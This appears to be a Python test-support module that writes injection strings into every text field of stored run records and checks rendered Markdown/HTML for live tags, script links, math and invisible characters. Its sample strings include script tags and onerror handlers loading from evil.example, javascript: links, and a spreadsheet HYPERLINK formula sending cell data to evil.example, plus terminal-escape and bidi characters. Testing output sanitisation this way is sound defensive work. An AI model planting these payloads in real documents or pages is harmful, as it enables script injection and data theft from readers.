"""Texts of a record that act where they are shown, and a search for their remains."""

import copy
import csv
import json
import operator
import re
from collections.abc import Iterator
from dataclasses import dataclass
from functools import reduce
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import yaml
from markdown_it import MarkdownIt

from ddl_tools.records.damage import examine
from ddl_tools.records.ledger import write_study
from ddl_tools.records.paths import STUDIES as STUDY_FILES
from ddl_tools.records.paths import RunFiles, Tree, committed
from ddl_tools.records.run import parse_record
from ddl_tools.records.stored import run_dirs, stored
from ddl_tools.study import Study
from tests.mutations import Place, places, put

EVIL = (
    'H100 <script src="//evil.example/x.js"></script><img src="//evil.example" onerror="run()">'
    "[x](javascript:run())![y](//evil.example/y.png)<b>`<i>` *z* $\\href{javascript:run()}{x}$\n"
    "\n# A heading\n\n[a]: //evil.example"
)
SCRIPT = "<script>window.ran = 1</script><img src=x onerror='window.ran = 1'>"
FORMULA = (
    '=HYPERLINK("http://evil.example/?"&A1, "click")\x1b[2J\x9b31m\u202egnp\u2066\u200b\u3164\x07'
)
TEXTS = {"script": SCRIPT, "markdown": EVIL, "formula": FORMULA}
STUDY = "laptop"
FIELDS = "fields"  # a study whose runs each have the text in one field
RAN = "return window.ran"  # in a browser: what SCRIPT did
# What generated pages hold; the span shows a sign that would begin mathematics.
_TAGS = {
    *("h1", "h2", "p", "ul", "li", "em", "strong", "a", "img", "code", "blockquote", "span"),
    *("table", "thead", "tbody", "tr", "th", "td"),
}


def rendered(page: str) -> str:
    """Return Markdown as HTML, as GitHub and JupyterLab read it."""
    return MarkdownIt("commonmark", {"html": True}).enable("table").render(page)


class _Search(HTMLParser):
    def __init__(self, tags: set[str]) -> None:
        super().__init__()
        self.found: list[str] = []
        self.text: list[str] = []
        self.tags = tags

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        bad = [(name, value) for name, value in attrs if not _harmless(name, value or "")]
        if tag not in self.tags or bad:
            self.found.append(f"<{tag}> {bad}")

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def _harmless(name: str, value: str) -> bool:
    if name in ("src", "href"):  # a path, a page of the project, or a picture as text
        return not re.match(r"(?!https:|data:image/)\w+:|//", value)
    return not name.startswith("on")


def alive(html: str, *others: str) -> list[str]:
    """Return the tags in HTML that no page of ours holds, with `others` as known."""
    return _searched(html, *others).found


def shown(html: str) -> str:
    """Return the text of HTML."""
    return "".join(_searched(html).text)


def formulas(html: str) -> list[str]:
    """Return the texts that JupyterLab shows as mathematics: it reads each element by itself."""
    return [one for one in _searched(html).text if re.search(r"\$.*\$|\\[a-z(\[]", one)]


def unseen(text: str) -> list[str]:
    """Return the characters of a text that are not seen where it is shown."""
    seen = "\n\t\N{NO-BREAK SPACE}"
    return [one for one in text if one not in seen and (not one.isprintable() or one == "\u3164")]


def _searched(html: str, *others: str) -> _Search:
    search = _Search({*_TAGS, *others})
    search.feed(html)
    search.close()
    return search


@dataclass(frozen=True)
class World:
    """Records that hold a text wherever they may, and a study file that does."""

    text: str
    tree: Tree
    study: Path
    fields: list[Place]
    accepted: list[Place]


def content_of(directory: Path) -> dict[str, Any]:
    run = stored(directory)
    content = {"record": run.record().content, "epochs": [one.content for one in run.epochs()]}
    return copy.deepcopy(content)  # readers keep what is published


def texts_of(content: Any) -> list[Place]:
    """Return the places of all texts, and of what is not known."""
    found = ((place, reduce(operator.getitem, place, content)) for place in places(content))
    return [place for place, value in found if isinstance(value, str | None)]


def write(tree: Tree, study: str, run_id: str, content: dict[str, Any]) -> Path:
    files = RunFiles(tree.study(study) / run_id)
    files.directory.mkdir(parents=True)
    files.record.write_text(json.dumps(content["record"]))
    files.epochs.write_text("".join(json.dumps(row) + "\n" for row in content["epochs"]))
    return files.directory


def with_one_field(tree: Tree, text: str) -> Iterator[tuple[Place, Path]]:
    """Write a run for each field of a published one, with the text there."""
    published = run_dirs(STUDY, committed())[0]
    content = content_of(published)
    spec = parse_record(published, content["record"]).spec
    for number, place in enumerate(texts_of(content)):
        own = spec.model_copy(update={"repeat": number})
        changed = copy.deepcopy(content)
        changed["record"] |= {"study": FIELDS, "run_id": own.run_id}
        changed["record"]["spec"]["repeat"] = number
        put(changed, place, text)
        yield place, write(tree, FIELDS, own.run_id, changed)


def make_world(root: Path, text: str) -> World:
    """Write records of a study below ``root/results`` that hold a text wherever they may."""
    tree = Tree(root / "results")
    written = dict(with_one_field(tree, text))
    accepted = [place for place, run in written.items() if not examine(run).damages]
    for published in run_dirs(STUDY, committed()):
        content = content_of(published)
        for place in {*accepted} & {*texts_of(content)}:
            put(content, place, text)
        write(tree, STUDY, published.name, content)
    study = Study.load(STUDY_FILES / f"{STUDY}.yaml").model_copy(update={"question": text})
    write_study(study, tree)
    with tree.notes.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([("study", "note"), (STUDY, text)])
    path = root / "study.yaml"
    path.write_text(yaml.safe_dump(study.model_dump(mode="json")))
    return World(text, tree, path, [*written], accepted)
